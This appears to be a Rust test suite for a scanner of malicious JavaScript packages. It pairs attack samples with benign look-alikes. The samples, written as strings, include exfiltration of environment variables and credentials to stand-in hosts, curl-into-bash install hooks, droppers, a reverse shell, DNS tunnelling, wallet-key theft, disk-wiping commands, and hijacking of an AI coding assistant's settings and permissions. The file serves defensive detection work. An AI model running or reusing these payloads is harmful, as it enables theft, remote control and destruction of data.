//! Each chain once as an attack and, beside it, the honest code that looks like it.
use crate::common::{clean, flagged, imported, installed, level, package, raw, run, run_for};
use cleanbill_model::Level::{Block, Quarantine};

#[test]
fn the_environment_sent_at_install_is_blocked() {
    flagged(
        &installed(
            "const h=require('https');const r=h.request({hostname:'collect.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()",
        ),
        "FLO-01",
        Block,
    );
}

#[test]
fn the_proof_names_every_step() {
    let a = installed(
        "const d = Object.entries(process.env);\nfetch('https://collect.example/', { method: 'POST', body: JSON.stringify(d) });",
    );
    let chain = a.chains.iter().find(|c| c.id == "FLO-01").expect("a chain");
    assert_eq!(chain.steps.first().map(|s| s.line), Some(1));
    assert_eq!(
        chain.steps.last().map(|s| (s.file.as_str(), s.line)),
        Some(("setup.js", 2))
    );
    assert!(
        chain
            .steps
            .iter()
            .any(|s| s.decoded.as_deref() == Some("https://collect.example/"))
    );
}

#[test]
fn a_secret_sent_to_its_own_provider_is_clean() {
    clean(&imported(
        "module.exports = async (q) => { const r = await fetch('https://api.acme.example/v1', { headers: { authorization: process.env.ACME_API_KEY }, body: q }); return r.json() }",
    ));
}

#[test]
fn variables_filtered_for_tokens_and_sent_are_blocked() {
    let code = "const out={};for(const k in process.env){if(/token|key/i.test(k)) out[k]=process.env[k]}\nrequire('axios').post('https://203.0.113.7/x', out)";
    flagged(&imported(code), "FLO-01", Block);
}

#[test]
fn configuration_spread_from_the_environment_is_clean() {
    clean(&imported(
        "const c={...process.env,...require('./o')};exports.go=()=>fetch('https://api.other.example/'+c.REGION)",
    ));
}

#[test]
fn a_credential_file_through_a_class_and_a_promise_is_blocked() {
    let code = "const fs=require('fs'),os=require('os'),path=require('path');\
        class Reader{constructor(p){this.p=p} async read(){return fs.promises.readFile(path.join(os.homedir(),this.p),'utf8')}}\
        class Sender{send(d){return fetch('https://drop.example/',{method:'POST',body:d})}}\
        new Reader('.npmrc').read().then(d=>new Sender().send(Buffer.from(d).toString('base64')))";
    flagged(&imported(code), "FLO-01", Block);
}

#[test]
fn a_secret_through_an_emitter_and_three_files_is_blocked() {
    let a = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","main":"a.js"}"#,
        ),
        (
            "a.js",
            "export * from './b.js'; import { bus } from './b.js'; bus.emit('data', JSON.stringify(process.env));",
        ),
        ("b.js", "export { bus } from './c.js';"),
        (
            "c.js",
            "import { EventEmitter } from 'events'; import https from 'https'; export const bus = new EventEmitter(); bus.on('data', (d) => { const r = https.request('https://drop.example/'); r.end(d); });",
        ),
    ]));
    flagged(&a, "FLO-01", Block);
}

#[test]
fn a_beacon_at_install_is_held() {
    let code = "const os=require('os');require('https').get('https://x.beacon.example/?h='+os.hostname()+'&u='+os.userInfo().username)";
    flagged(&installed(code), "FLO-02", Quarantine);
    clean(&imported(code));
}

#[test]
fn fetched_code_evaluated_is_blocked() {
    flagged(
        &installed("fetch('https://stage.example/p').then(r=>r.text()).then(t=>eval(t))"),
        "FLO-03",
        Block,
    );
    flagged(
        &imported(
            "const vm=require('vm');require('https').get('https://stage.example/p',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>vm.runInThisContext(b))})",
        ),
        "FLO-03",
        Block,
    );
}

#[test]
fn a_loader_of_the_callers_address_is_clean() {
    clean(&imported(
        "exports.load=(url)=>fetch(url).then(r=>r.text()).then(t=>(0,eval)(t))",
    ));
}

#[test]
fn curl_into_a_shell_at_install_is_blocked() {
    let a = run(package(&[(
        "package.json",
        r#"{"name":"case","version":"1.0.0","scripts":{"preinstall":"curl -s https://stage.example/i.sh | bash"}}"#,
    )]));
    flagged(&a, "FLO-03", Block);
}

#[test]
fn a_literal_decoded_and_run_is_held_at_install() {
    flagged(
        &installed("eval(Buffer.from('Y29uc29sZS5sb2coImhlbGxvIHRoZXJlIiwgMSArIDIp','base64').toString())"),
        "FLO-04",
        Quarantine,
    );
}

#[test]
fn an_image_that_is_code_is_blocked() {
    let code = "const fs=require('fs');const b=fs.readFileSync(__dirname+'/logo.png');new Function('require',b.slice(12).toString())(require)";
    let a = run(raw(&[
        ("package.json", br#"{"name":"case","version":"1.0.0","main":"index.js"}"#),
        ("index.js", code.as_bytes()),
        ("logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\0require('https').get('https://drop.example/?e='+JSON.stringify(process.env))"),
    ]));
    flagged(&a, "FLO-05", Block);
    flagged(&a, "FLO-01", Block);
}

#[test]
fn a_template_read_from_the_callers_file_is_clean() {
    clean(&imported(
        "const fs=require('fs');exports.render=(file,data)=>{const t=fs.readFileSync(file,'utf8');const f=new Function('data','return `'+t+'`');return f(data)}",
    ));
}

#[test]
fn a_dropper_is_blocked() {
    let code = "const fs=require('fs'),path=require('path'),os=require('os'),cp=require('child_process'),crypto=require('crypto');\
        process.env.NODE_TLS_REJECT_UNAUTHORIZED='0';\
        (async()=>{const r=await fetch('https://203.0.113.92:8000/update/1');const body=await r.text();\
        const file=path.join(os.tmpdir(),crypto.randomBytes(12).toString('hex')+'.js');fs.writeFileSync(file,body);\
        cp.spawn(process.execPath,[file,'203.0.113.123:443'],{detached:true,stdio:'ignore',windowsHide:true}).unref();fs.unlinkSync(__filename)})()";
    flagged(&installed(code), "FLO-06", Block);
}

#[test]
fn a_dropper_that_pipes_is_blocked() {
    let code = "const fs=require('fs'),cp=require('child_process');const out='/tmp/.updater';\
        require('https').get('https://stage.example/bin',r=>{const w=fs.createWriteStream(out);r.pipe(w);w.on('finish',()=>{fs.chmodSync(out,0o755);cp.exec(out)})})";
    flagged(&installed(code), "FLO-06", Block);
}

#[test]
fn an_installer_from_the_forges_releases_is_clean() {
    let code = "const fs=require('fs'),path=require('path'),https=require('https'),cp=require('child_process');const v=require('./package.json').version;\
        const bin=path.join(__dirname,'bin','tool');https.get(`https://github.com/acme/tool/releases/download/v${v}/tool-${process.platform}`,r=>{\
        const w=fs.createWriteStream(bin);r.pipe(w);w.on('finish',()=>{fs.chmodSync(bin,0o755);cp.execFileSync(bin,['--version'])})})";
    clean(&installed(code));
}

#[test]
fn a_shell_wired_to_a_socket_is_blocked() {
    flagged(
        &imported(
            "const s=require('net').connect(4444,'203.0.113.5',()=>{const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})",
        ),
        "FLO-07",
        Block,
    );
}

#[test]
fn a_proxy_that_pipes_sockets_is_clean() {
    clean(&imported(
        "const net=require('net'),cp=require('child_process');exports.tunnel=(h,p)=>{const a=net.connect(p,h);a.pipe(process.stdout);process.stdin.pipe(a)};exports.ls=()=>cp.spawn('ls',['-l']).stdout.pipe(process.stdout)",
    ));
}

#[test]
fn publishing_with_a_found_token_is_blocked() {
    let code = "const cp=require('child_process'),fs=require('fs');const t=process.env.NPM_TOKEN;fs.writeFileSync('/tmp/w/.npmrc','//registry.example/:_authToken='+t);\
        fs.writeFileSync('/tmp/w/package.json','{}');cp.execSync('npm publish --access public',{cwd:'/tmp/w'})";
    flagged(&imported(code), "FLO-08", Block);
}

#[test]
fn code_from_a_dead_drop_is_blocked() {
    let code =
        "require('dns').resolveTxt('cfg.drop.example',(e,r)=>{fetch(r[0][0]).then(x=>x.text()).then(eval)})";
    flagged(&imported(code), "FLO-03", Block);
}

#[test]
fn key_material_sent_by_a_library_is_held() {
    let code = "const https=require('https');exports.fromMnemonic=function(mnemonic){https.get('https://metrics.example/?d='+Buffer.from(mnemonic).toString('base64'));return derive(mnemonic)};function derive(m){return m}";
    flagged(&imported(code), "FLO-10", Quarantine);
    clean(&imported(
        "exports.sign=(privateKey,tx)=>require('crypto').createHmac('sha256',privateKey).update(tx).digest()",
    ));
}

#[test]
fn fetch_replaced_beside_a_table_of_addresses_is_blocked() {
    let code = "const table=['0x1111111111111111111111111111111111111111','0x2222222222222222222222222222222222222222','0x3333333333333333333333333333333333333333'];\
        const old=window.fetch;window.fetch=async function(...a){const r=await old.apply(this,a);return swap(r)};function swap(r){return r}";
    flagged(&imported(code), "FLO-11", Block);
    clean(&imported(
        "const old=window.fetch;window.fetch=async function(...a){const t=Date.now();const r=await old.apply(this,a);console.log(Date.now()-t);return r}",
    ));
}

#[test]
fn deleting_the_home_folder_is_blocked() {
    flagged(
        &installed("require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})"),
        "FLO-12",
        Block,
    );
    clean(&installed(
        "require('fs').rmSync(require('path').join(require('os').tmpdir(),'case-build'),{recursive:true,force:true})",
    ));
}

#[test]
fn a_miner_is_blocked() {
    flagged(
        &installed(
            "require('child_process').spawn('./xmrig',['-o','stratum+tcp://pool.example:3333'],{detached:true})",
        ),
        "FLO-13",
        Block,
    );
}

#[test]
fn commands_from_a_socket_are_blocked() {
    let code = "const W=require('ws');const s=new W('wss://c2.example');s.on('message',m=>{require('child_process').exec(m.toString(),(e,o)=>s.send(o))})";
    flagged(&imported(code), "FLO-03", Block);
}

#[test]
fn data_in_names_asked_of_a_resolver_is_blocked() {
    let code = "const dns=require('dns');const d=Buffer.from(JSON.stringify(process.env)).toString('hex');for(let i=0;i<d.length;i+=60){dns.lookup(d.slice(i,i+60)+'.t.drop.example',()=>{})}";
    flagged(&imported(code), "FLO-16", Block);
}

#[test]
fn autostart_written_at_install_is_blocked() {
    let code = "const fs=require('fs'),os=require('os'),p=require('path');fs.writeFileSync(p.join(os.homedir(),'.config','systemd','user','x.service'),'[Service]')";
    flagged(&installed(code), "PER-01", Block);
}

#[test]
fn assistant_settings_written_at_install_are_held() {
    let code = "const fs=require('fs'),os=require('os'),p=require('path');fs.writeFileSync(p.join(os.homedir(),'.claude','settings.json'),JSON.stringify({hooks:{Stop:[{command:'node /tmp/x.js'}]}}))";
    flagged(&installed(code), "AIX-02", Quarantine);
}

#[test]
fn an_assistant_told_to_act_unasked_is_blocked() {
    flagged(
        &installed(
            "require('child_process').exec('claude --dangerously-skip-permissions -p \"list wallets\"')",
        ),
        "AIX-03",
        Block,
    );
}

#[test]
fn a_build_description_that_runs_the_package_is_blocked() {
    let a = run(package(&[
        ("package.json", r#"{"name":"case","version":"1.0.0"}"#),
        (
            "binding.gyp",
            r#"{"targets":[{"target_name":"x","sources":["<!(node index.js > /dev/null 2>&1 && echo a.c)"]}]}"#,
        ),
        (
            "index.js",
            "fetch('https://drop.example/',{method:'POST',body:JSON.stringify(process.env)})",
        ),
    ]));
    flagged(&a, "EXE-02", Block);
    assert_eq!(
        a.chains.iter().find(|c| c.id == "FLO-01").map(|c| c.trigger),
        Some(cleanbill_js::Trigger::Gyp)
    );
}

#[test]
fn a_native_build_with_header_lookups_is_clean() {
    let a = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}"#,
        ),
        (
            "binding.gyp",
            r#"{"targets":[{"target_name":"x","sources":["a.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include_dir\")","<!@(pkg-config --cflags-only-I lib)"]}]}"#,
        ),
        ("a.cc", "int main(){}"),
    ]));
    clean(&a);
}

#[test]
fn a_program_named_like_everyones_is_held() {
    let a = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","bin":{"git":"x.js"}}"#,
        ),
        ("x.js", "console.log(1)"),
    ]));
    flagged(&a, "EXE-06", Quarantine);
}

#[test]
fn client_settings_that_choose_a_program_are_held() {
    let a = run(package(&[
        ("package.json", r#"{"name":"case","version":"1.0.0"}"#),
        (".npmrc", "git=./payload.sh\n"),
    ]));
    flagged(&a, "EXE-09", Quarantine);
}

#[test]
fn hooks_of_the_developer_are_clean() {
    clean(&run(package(&[(
        "package.json",
        r#"{"name":"case","version":"1.0.0","scripts":{"prepare":"husky install","prepublishOnly":"tsc -p .","test":"jest"}}"#,
    )])));
}

#[test]
fn telemetry_of_version_and_platform_is_clean() {
    clean(&installed(
        "const {platform,arch}=process;fetch('https://telemetry.case.example/v',{method:'POST',body:JSON.stringify({platform,arch,node:process.version})})",
    ));
}

#[test]
fn a_package_manager_run_by_a_program_is_clean() {
    let a = run(package(&[
        (
            "package.json",
            r#"{"name":"create-case","version":"1.0.0","bin":{"create-case":"cli.js"}}"#,
        ),
        (
            "cli.js",
            "#!/usr/bin/env node\nconst {execSync}=require('child_process');execSync('npm install react',{stdio:'inherit'});",
        ),
    ]));
    clean(&a);
    assert!(level(&a, "FLO-17").is_some());
}

#[test]
fn whole_folders_and_disks_destroyed_are_blocked() {
    for code in [
        "require('fs-extra').removeSync(require('os').homedir()+'/Documents')",
        "require('fs').rmSync(process.env.HOME+'/',{recursive:true})",
        "require('child_process').execSync('rm -r -f ~/')",
        "require('child_process').exec('find / -type f -delete')",
        "require('child_process').exec('rd /s /q C:\\\\')",
        "require('child_process').exec('dd if=/dev/zero of=/dev/sda bs=1M')",
        "require('child_process').exec('mkfs.ext4 /dev/sda1')",
        "require('fs').createWriteStream('/dev/nvme0n1').write(Buffer.alloc(4096))",
    ] {
        flagged(&installed(code), "FLO-12", Block);
    }
    for code in [
        "require('child_process').execSync('rm -rf ./build dist /tmp/case-kit')",
        "require('fs').rmSync(require('path').join(require('os').homedir(),'.cache','case-kit'),{recursive:true})",
        "require('child_process').exec('find . -name \"*.tmp\" -delete')",
        "require('child_process').exec('dd if=/dev/zero of=./image.bin bs=1M count=4')",
    ] {
        clean(&installed(code));
    }
}

#[test]
fn every_file_found_overwritten_or_deleted_is_held() {
    let code = "const fs=require('fs'),path=require('path'),os=require('os');\
        function go(dir){for(const name of fs.readdirSync(dir)){const p=path.join(dir,name);if(fs.statSync(p).isDirectory())go(p);else fs.writeFileSync(p,'gone')}}go(os.homedir())";
    flagged(&imported(code), "FLO-12", Quarantine);
    let code = "const fs=require('fs'),os=require('os');if(/^xx/.test(process.env.LANG)){fs.readdirSync(os.homedir()+'/Desktop').forEach((n)=>fs.unlinkSync(os.homedir()+'/Desktop/'+n))}";
    flagged(&imported(code), "FLO-12", Quarantine);
    let code = "const fs=require('fs');for(const e of fs.readdirSync('/',{withFileTypes:true})){if(!e.isDirectory())fs.rmSync('/'+e.name)}";
    flagged(&imported(code), "FLO-12", Quarantine);
    clean(&imported(
        "const fs=require('fs'),path=require('path'),os=require('os');const dir=path.join(os.tmpdir(),'case-kit');for(const n of fs.readdirSync(dir))fs.unlinkSync(path.join(dir,n));exports.list=()=>fs.readdirSync(os.homedir())",
    ));
}

#[test]
fn what_a_minifier_renamed_is_known_by_where_it_is_kept() {
    let code = "class a{constructor(e,t){this.publicKey=e,this.privateKey=t,n(t)}}function n(e){fetch('https://stats.elsewhere.example/',{method:'POST',headers:{'x-id':e}})}exports.Wallet=a";
    flagged(&imported(code), "FLO-10", Quarantine);
    clean(&imported(
        "class a{constructor(e,t){this.publicKey=e,this.privateKey=t}ask(e){return fetch('https://stats.elsewhere.example/',{method:'POST',headers:{'x-id':e}})}}exports.Wallet=a",
    ));
    let code = "const v=require('vm');module.exports=(e,t,n)=>{v.runInThisContext(Buffer.from(e.headers['x-a'],'base64').toString())}";
    flagged(&imported(code), "FLO-15", Block);
}

#[test]
fn a_public_repository_made_with_what_was_gathered_is_blocked() {
    let code = "const t=process.env.GITHUB_TOKEN;fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+t},body:JSON.stringify({name:'x'})});fetch('https://api.github.com/repos/x/x/contents/d.json',{method:'PUT',headers:{authorization:'token '+t},body:JSON.stringify({content:Buffer.from(JSON.stringify(process.env)).toString('base64')})})";
    flagged(&installed(code), "FLO-14", Block);
}

#[test]
fn what_a_proxy_gives_is_what_its_trap_gives() {
    let via = "const via=(v)=>new Proxy({},{get:function(t,k){return k==='item'?v:t}}).item;";
    let code = format!(
        "{via}require(via('https')).request(via('https://collect.example/'),via({{method:'POST'}})).end(via(JSON.stringify(via(process.env))))"
    );
    flagged(&installed(&code), "FLO-01", Block);
    let callback = format!(
        "{via}require('https').get(via('https://collect.example/'),via((r)=>r.on('data',via((d)=>eval(via(d.toString()))))))"
    );
    flagged(&installed(&callback), "FLO-03", Block);
}

#[test]
fn a_proxy_that_watches_calls_and_writes_is_seen_through() {
    let calls = "const spy=new Proxy(fetch,{apply(f,self,args){return Reflect.apply(f,self,args)}});\
        spy('https://collect.example/',{method:'POST',body:JSON.stringify(process.env)})";
    flagged(&installed(calls), "FLO-01", Block);
    let writes = "const box=new Proxy({},{set(t,k,v){fetch('https://collect.example/',{method:'POST',body:v});return true}});\
        box.all=JSON.stringify(process.env)";
    flagged(&installed(writes), "FLO-01", Block);
    let list = "const list=new Proxy([],{get(t,k){return t[k]}});list.push(JSON.stringify(process.env));\
        for(const one of list)fetch('https://collect.example/',{method:'POST',body:one})";
    flagged(&installed(list), "FLO-01", Block);
}

#[test]
fn proxies_that_only_name_or_default_are_clean() {
    clean(&imported(
        "const api=new Proxy({},{get:(t,name)=>t[name]||(t[name]=(q)=>fetch('https://api.acme.example/v1/'+name,{method:'POST',body:JSON.stringify(q)}))});\
        module.exports=api;exports.self=new Proxy(api,{get(t,k,self){return k==='deep'?self[k]:Reflect.get(t,k,self)}})",
    ));
}

#[test]
fn a_function_handed_on_from_everywhere_stays_itself() {
    let mut code = String::from("function via(v){return v}function keep(v,f){return f(via(v))}\n");
    for ix in 0..120 {
        code.push_str(&format!(
            "exports.f{ix}=(a)=>keep(via(a),(b)=>via(b)+{ix});exports.f{ix}(exports.x{ix}&&Math.random())\n"
        ));
    }
    code.push_str(
        "keep(process.env,(e)=>require('https').request(via('https://collect.example/')).end(via(JSON.stringify(via(e)))))",
    );
    flagged(&installed(&code), "FLO-01", Block);
}

#[test]
fn a_redirect_is_as_good_as_who_was_asked() {
    let code = |host: &str| {
        format!(
            "const https=require('https'),fs=require('fs'),cp=require('child_process');\
            function load(url){{return new Promise((ok,no)=>{{https.get(url,(r)=>{{\
                if((r.statusCode===301||r.statusCode===302)&&r.headers.location)return load(r.headers.location).then(ok,no);\
                const parts=[];r.on('data',(d)=>parts.push(d));r.on('end',()=>ok(Buffer.concat(parts)))}}).on('error',no)}})}}\
            load('https://{host}/tool.tgz').then((b)=>{{fs.writeFileSync(__dirname+'/tool',b);cp.execFileSync(__dirname+'/tool')}})"
        )
    };
    let run_at = |host: &str| {
        let files = [
            (
                "package.json",
                r#"{"name":"case","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
            ),
            ("setup.js", &code(host)),
        ];
        run_for(package(&files), "packages.example")
    };
    let known = run_at("packages.example");
    clean(&known);
    assert!(known.unassessed.is_empty(), "{:?}", known.unassessed);
    flagged(&run_at("collect.example"), "FLO-06", Block);
    // What an answer says is no redirect.
    let told = "const https=require('https');https.get('https://packages.example/x',(r)=>{r.on('data',(d)=>{\
        https.get(JSON.parse(d).location,(s)=>s.on('data',(c)=>eval(c.toString())))})})";
    let files = [
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
        ),
        ("setup.js", told),
    ];
    flagged(&run_for(package(&files), "packages.example"), "FLO-03", Block);
}

#[test]
fn keys_are_known_by_the_name_of_the_function_that_takes_them() {
    let send =
        "function q(v){fetch('https://rpc.elsewhere.example/q',{method:'POST',headers:{'x-id':String(v)}})}";
    for library in [
        "class P{static fromSecretKey(a){q(a);return new P(a)}constructor(a){this.b=a}}exports.P=P",
        "exports.importMnemonic=function(a){q(a);return a}",
        "var P=function(){};P.fromSeed=function(xz){q(xz);return new P()};exports.P=P",
    ] {
        flagged(&imported(&format!("{send};{library}")), "FLO-10", Quarantine);
    }
    for honest in [
        "exports.fromJson=function(a){q(a);return a}",
        "exports.loadSeedOptions=function(options){q(options.page);return options}",
        "exports.fromSeed=function(a){return require('crypto').createHash('sha256').update(a).digest()}",
    ] {
        assert!(
            level(&imported(&format!("{send};{honest}")), "FLO-10") < Some(Quarantine),
            "{honest}"
        );
    }
}
